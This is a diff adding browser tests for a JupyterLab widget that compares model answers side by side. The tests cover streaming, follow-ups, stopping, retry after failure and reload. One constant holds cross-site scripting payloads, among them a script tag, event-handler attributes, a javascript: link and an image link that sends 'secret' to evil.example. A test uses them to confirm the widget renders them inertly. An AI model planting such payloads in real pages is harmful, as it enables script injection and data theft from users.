@@ -1,0 +1,97 @@
+"""The comparison in JupyterLab, as a person sees and uses it."""
+
+import re
+
+IDLE = "() => document.querySelector('.nbk-pane') && !document.querySelector('.nbk-live [aria-busy=true]')"
+BUSY = "() => document.querySelector('.nbk-live [aria-busy=true]')"
+HOSTILE = (
+    '<img src=x onerror=\\"window.pwned=1\\"><script>window.pwned=2</script> [click](javascript:window.pwned=3) '
+    '![leak](https://evil.example/?q=secret) <svg onload=\\"window.pwned=4\\">'
+)
+
+
+def test_a_comparison_streams_answers_follow_ups_and_comes_back_after_a_reload(lab):
+    lab.open("import nbkit; c = nbkit.compare('Explain recursion', ['demo/swift', 'demo/sage'])")
+    lab.run()
+    lab.until(BUSY)
+    panes = lab.page.locator(".nbk-pane")
+    assert panes.count() == 2
+    lab.until("() => document.querySelector('.nbk-answer').innerText.length > 40")
+    assert lab.page.locator(".nbk-stop").is_visible()
+    lab.until(IDLE)
+    assert "Recursion is a function" in panes.nth(0).inner_text()
+    assert panes.nth(1).locator(".nbk-answer table").count() == 1
+    assert panes.nth(1).locator(".nbk-answer pre .nbk-k").count() > 0
+    for pane in panes.all():
+        strip = pane.locator(".nbk-strip").inner_text()
+        assert "cost $0.0" in strip
+        assert "tok/s" in strip
+    assert not lab.page.locator(".nbk-static").is_visible()
+
+    box = lab.page.get_by_label("Follow-up")
+    box.fill("echo: **again**")
+    box.press("Enter")
+    lab.until("() => document.querySelectorAll('.nbk-turn strong').length >= 2")
+    lab.until(IDLE)
+    assert panes.nth(0).locator(".nbk-turn").count() == 2
+    assert box.evaluate("box => box === document.activeElement")
+    assert lab.page.locator(".nbk-totals").inner_text().startswith("this comparison $0.0")
+
+    shown = panes.all_inner_texts()
+    lab.save()
+    lab.page.reload()
+    lab.until(IDLE, 60)
+    lab.until("() => document.querySelectorAll('.nbk-turn').length === 4")
+    assert panes.all_inner_texts() == shown
+    assert lab.errors == []
+    assert lab.abroad == []
+
+
+def test_stop_stops_by_button_and_by_key_and_keeps_the_partial_answer(lab):
+    lab.open("import nbkit; c = nbkit.compare('Explain recursion', ['demo/tortoise', 'demo/tortoise'])")
+    lab.run()
+    lab.until("() => document.querySelector('.nbk-answer')?.innerText.length > 10", 30)
+    lab.page.get_by_role("button", name="Stop").click()
+    lab.until(IDLE, 5)
+    assert lab.page.locator(".nbk-note", has_text="stopped by you").count() == 2
+    assert len(lab.page.locator(".nbk-answer").first.inner_text()) > 10
+    box = lab.page.get_by_label("Follow-up")
+    box.fill("Go on")
+    box.press("Enter")
+    lab.until(BUSY)
+    box.press("Escape")
+    lab.until(IDLE, 5)
+    assert lab.page.locator(".nbk-note", has_text="stopped by you").count() == 4
+    assert lab.errors == []
+
+
+def test_a_failure_stays_in_its_pane_with_a_retry(lab):
+    lab.open("import nbkit; c = nbkit.compare('rate limit', ['demo/swift', 'demo/brittle'])")
+    lab.run()
+    lab.until("() => document.querySelector('.nbk-problem')", 30)
+    lab.until(IDLE)
+    assert lab.page.locator(".nbk-problem").count() == 1
+    assert "Wait a little." in lab.page.locator(".nbk-problem").inner_text()
+    lab.page.get_by_role("button", name="Retry").click()
+    lab.until(BUSY)
+    lab.until(IDLE)
+    assert lab.page.locator(".nbk-pane").nth(0).locator(".nbk-strip").count() == 1
+    assert lab.errors == []
+
+
+def test_a_hostile_answer_executes_nothing_live_or_saved(lab):
+    lab.open(f'import nbkit; c = nbkit.compare("echo: {HOSTILE}", ["demo/swift", "demo/sage"])', "c.freeze()")
+    lab.run(0)
+    lab.until(IDLE)
+    assert "<script>" in lab.page.locator(".nbk-answer").first.inner_text()
+    assert lab.page.locator(".nbk-live").locator("img, script, svg, iframe, [onerror], [href^=javascript]").count() == 0
+    lab.run(1)
+    lab.until("() => !document.querySelector('.nbk-live') && document.querySelector('.nbk-static')")
+    bundles = [output["data"] for cell in lab.save()["cells"] for output in cell["outputs"]]
+    assert not any("application/vnd.jupyter.widget-view+json" in bundle for bundle in bundles)
+    lab.page.reload()
+    lab.until("() => document.querySelector('.nbk-static')", 60)
+    assert "<script>" in lab.page.locator(".nbk-static").inner_text()
+    assert re.search(r"this comparison \$0.0\d+ · notebook \$0.0", lab.page.locator(".nbk-static").inner_text())
+    assert lab.page.evaluate("() => window.pwned") is None
+    assert lab.abroad == []
